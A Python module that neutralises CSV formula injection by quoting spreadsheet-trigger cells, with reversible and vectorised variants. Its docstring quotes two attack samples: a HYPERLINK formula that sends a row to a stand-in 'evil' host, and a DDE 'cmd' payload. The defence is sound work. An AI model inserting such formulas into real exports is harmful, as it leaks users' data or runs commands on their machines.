"""CSV cells that a spreadsheet cannot run.

A spreadsheet opening a CSV reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or
carriage return before one) as a formula: `=HYPERLINK("https://evil/?"&A2, "click")` in a
respondent's evidence note becomes a link that sends the row away, `+cmd|' /C calc'!A0` a DDE
call. OWASP's remedy, used here: prefix such a text cell with a single quote, which the
spreadsheet shows as text. Only text changes: a number (negative or not) that is a number type
stays a number, so numeric columns still sort and sum. Text that looks like a number ("-2") is
prefixed too, because only the type tells a number from text the user typed.

    df = safe_frame(df)           # before df.to_csv(...) of a file people open
    write_csv(df, path)           # the same, written atomically as UTF-8

Files the pipeline also reads back use `reversible=True` on the way out and `restore` on the
way in (see `neutralise`).
"""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd

from pipelines.staging import atomic_write_bytes

TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"


def neutralise(value, *, reversible: bool = False):
    """`value` with a leading quote if it is text a spreadsheet would run as a formula.

    Plain mode leaves text that already starts with a quote alone, so applying it twice changes
    nothing. With `reversible=True` a text whose leading quotes are followed by a trigger gets
    one more quote as well ("'=x" -> "''=x"), which makes `restore` its exact inverse: without
    that, a note the user typed as "'=x" would come back as "=x".
    """
    if not isinstance(value, str):
        return value
    head = value.lstrip(QUOTE) if reversible else value
    return QUOTE + value if head[:1] in TRIGGERS else value


def restore(value):
    """The inverse of `neutralise(value, reversible=True)`; anything else comes back as is."""
    if isinstance(value, str) and value[:1] == QUOTE and value.lstrip(QUOTE)[:1] in TRIGGERS:
        return value[1:]
    return value


def _is_text(col: pd.Series) -> bool:
    return _is_text_dtype(col.dtype)


def _is_text_dtype(dtype) -> bool:
    return (pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)
            or isinstance(dtype, pd.CategoricalDtype))


# every function mapped here (`neutralise` either way, `restore`) leaves a text alone unless it
# starts with one of these
_MAY_CHANGE = (*sorted(TRIGGERS), QUOTE)


def _changes(col: pd.Series, fn) -> bool:
    """Whether `fn` changes a cell of the column (it returns a cell it keeps as the same
    object): most downloads have no cell to change, and mapping every text column of a small
    table through pandas was most of a download's time. A string column is first narrowed to
    the cells that start with a trigger or a quote, vectorised: iterating 100,000 cells in
    Python was ~40% of the EU map's CSV."""
    values = col.cat.categories if isinstance(col.dtype, pd.CategoricalDtype) else col.array
    if isinstance(values.dtype, pd.StringDtype) and len(values):
        starts = pd.Series(values, copy=False).str.startswith(_MAY_CHANGE)
        values = values[starts.fillna(False).to_numpy(dtype=bool)]
    return any(isinstance(v, str) and fn(v) is not v for v in values)


def _map_frame(df: pd.DataFrame, fn) -> pd.DataFrame:
    # by position: an uploaded file's rejected rows can repeat a header (df[name] would then be
    # a frame, not a column)
    out = df.copy()
    for i, dtype in enumerate(out.dtypes.tolist()):
        if not _is_text_dtype(dtype):
            continue
        col = out.iloc[:, i]
        if not _changes(col, fn):
            continue
        if isinstance(col.dtype, pd.CategoricalDtype):
            cats = col.cat.categories
            mapped = [fn(v) for v in cats]
            # two categories could map to one value only if one already carried the quote
            new = (col.cat.rename_categories(mapped) if len(set(mapped)) == len(mapped)
                   else col.astype(object).map(fn))
        else:
            new = col.map(fn, na_action="ignore")
        out.isetitem(i, new)
    # a header is a cell too (rejected-rows files carry the uploaded file's own headers)
    out.columns = [fn(c) for c in out.columns]
    return out


def safe_frame(df: pd.DataFrame, *, reversible: bool = False) -> pd.DataFrame:
    """A copy of `df` with every text cell and header neutralised; numbers untouched."""
    return _map_frame(df, lambda v: neutralise(v, reversible=reversible))


def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
    """Undo `safe_frame(df, reversible=True)` after reading such a file back."""
    return _map_frame(df, restore)


def csv_bytes(df: pd.DataFrame, *, reversible: bool = False, **kw) -> bytes:
    """`safe_frame(df)` as UTF-8 CSV bytes (no index, "\\n" line ends unless given)."""
    kw.setdefault("index", False)
    kw.setdefault("lineterminator", "\n")
    buf = io.StringIO()
    safe_frame(df, reversible=reversible).to_csv(buf, **kw)
    return buf.getvalue().encode("utf-8")


def write_csv(df: pd.DataFrame, path: Path | str, *, reversible: bool = False, **kw) -> None:
    """Write `safe_frame(df)` to `path` atomically (a reader never sees half a file)."""
    atomic_write_bytes(Path(path), csv_bytes(df, reversible=reversible, **kw))


def safe_frame_fast(df: pd.DataFrame) -> pd.DataFrame:
    """`safe_frame(df)` (plain mode) with vectorised string operations, for large downloads
    (the API's 98,000-municipality CSV): the same cells change, in a fraction of the time."""
    out = df.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        elif not _is_text(col):
            continue
        first = col.str[:1]
        hit = first.isin(TRIGGERS).fillna(False).to_numpy(dtype=bool)
        if hit.any():
            col = col.astype(object).copy()
            col[hit] = QUOTE + col[hit].astype(str)
        out.isetitem(i, col)
    out.columns = [neutralise(c) for c in out.columns]
    return out
